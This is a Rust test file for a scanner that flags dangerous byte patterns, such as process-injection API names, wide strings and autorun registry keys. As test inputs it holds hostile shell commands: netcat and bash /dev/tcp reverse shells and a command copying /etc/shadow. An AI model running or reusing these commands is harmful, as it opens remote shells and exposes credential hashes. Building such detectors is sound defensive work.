//! Dangerous intent: patterns in the bytes of a file.
use aegis_host::scanner::intent;

const MAX_INDICATIVE_RISK: f32 = 0.35;

/// A result with its risk as a fraction.
struct Seen {
    flagged: bool,
    flags: Vec<String>,
    risk: f32,
}

fn detect_dangerous_intent(data: &[u8], context: Option<&[u8]>) -> Result<Seen, ()> {
    let r = intent::detect_dangerous_intent(data, context);
    Ok(Seen { flagged: r.flagged, flags: r.flags, risk: r.risk as f32 / 10_000.0 })
}

#[test]
fn test_clean_buffer() {
    let data = b"Hello world, this is a clean file content.";
    let res = detect_dangerous_intent(data, None).unwrap();
    assert!(!res.flagged);
    assert_eq!(res.risk, 0.0);
}

#[test]
fn test_winapi_injection_flag() {
    let data = b"Some code calling CreateRemoteThread to inject shellcode";
    let res = detect_dangerous_intent(data, None).unwrap();
    assert!(res.flagged, "CreateRemoteThread not detected");
    assert!(
        res.flags.iter().any(|f| f.contains("CreateRemoteThread")),
        "the match must name the pattern: {:?}",
        res.flags
    );
}

#[test]
fn test_cross_boundary_pattern() {
    let prefix = b"Executing CreateRemote";
    let chunk = b"Thread now!";
    let res = detect_dangerous_intent(chunk, Some(prefix)).unwrap();
    assert!(res.flagged, "pattern split across a chunk boundary was missed");
}

#[test]
fn ordinary_windows_api_names_cannot_condemn_a_file() {
    let data = b"RegSetValue RegCreateKey ShellExecuteW IsDebuggerPresent \
                 powershell cmd.exe CreateService OpenSCManager";
    let res = detect_dangerous_intent(data, None).unwrap();

    assert!(res.flagged, "the patterns should still be reported");
    assert!(
        res.risk <= MAX_INDICATIVE_RISK,
        "indicative patterns must not exceed the cap, got {}",
        res.risk
    );
    assert!(
        res.risk < 0.4,
        "eight ordinary Windows API names scored {}, which is at or above \
         sandbox_threshold — every real Windows program would be held",
        res.risk
    );
}

#[test]
fn decisive_patterns_keep_their_full_weight() {
    for (payload, min) in [
        (b"sh -c 'nc -e /bin/sh 10.0.0.1 4444'".as_slice(), 0.8f32),
        (b"cat /etc/shadow > /tmp/out".as_slice(), 0.7),
        (b"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1".as_slice(), 0.7),
    ] {
        let res = detect_dangerous_intent(payload, None).unwrap();
        assert!(
            res.risk >= min,
            "decisive payload {:?} scored only {}",
            String::from_utf8_lossy(payload),
            res.risk
        );
    }
}

#[test]
fn classes_do_not_compound() {
    let mixed = b"nc -e /bin/sh 1.2.3.4 RegSetValue ShellExecuteW IsDebuggerPresent";
    let res = detect_dangerous_intent(mixed, None).unwrap();
    assert!(
        res.risk <= 0.8,
        "a reverse shell beside ordinary API names scored {}, above the \
         decisive pattern's own weight",
        res.risk
    );
}

fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
}

#[test]
fn detects_winapi_strings_stored_as_utf16le() {
    let data = utf16le("kernel32.dll CreateRemoteThread ntdll");
    let res = detect_dangerous_intent(&data, None).unwrap();
    assert!(
        res.flagged,
        "UTF-16LE WinAPI string not detected — the scanner is blind to wide strings"
    );
    assert!(
        res.flags.iter().any(|f| f.contains("utf-16le")),
        "match should be attributed to utf-16le: {:?}",
        res.flags
    );
}

#[test]
fn detects_utf16le_at_odd_alignment() {
    let mut data = vec![0xFFu8];
    data.extend(utf16le("SetWindowsHookEx"));
    let res = detect_dangerous_intent(&data, None).unwrap();
    assert!(res.flagged, "odd-aligned UTF-16LE string missed");
}

#[test]
fn detects_utf16le_inside_pe_like_blob() {
    let mut data = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    data.extend(std::iter::repeat_n(0u8, 200));
    data.extend(utf16le(
        "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    ));
    let res = detect_dangerous_intent(&data, None).unwrap();
    assert!(res.flagged, "autorun registry key in UTF-16LE was missed");
    assert!(res.risk >= 0.7, "risk was {}", res.risk);
}

#[test]
fn utf16le_view_does_not_splice_across_gaps() {
    let mut data = utf16le("Create");
    data.extend_from_slice(&[0xDE, 0xAD, 0xBE, 0xEF, 0x01, 0x02]);
    data.extend(utf16le("RemoteThread"));

    let res = detect_dangerous_intent(&data, None).unwrap();
    assert!(
        !res.flags.iter().any(|f| f.contains("CreateRemoteThread")),
        "fragments separated by binary data were spliced into a false match: {:?}",
        res.flags
    );
}

#[test]
fn random_binary_does_not_flag() {
    let data: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
    let res = detect_dangerous_intent(&data, None).unwrap();
    assert!(!res.flagged, "binary noise produced flags: {:?}", res.flags);
}
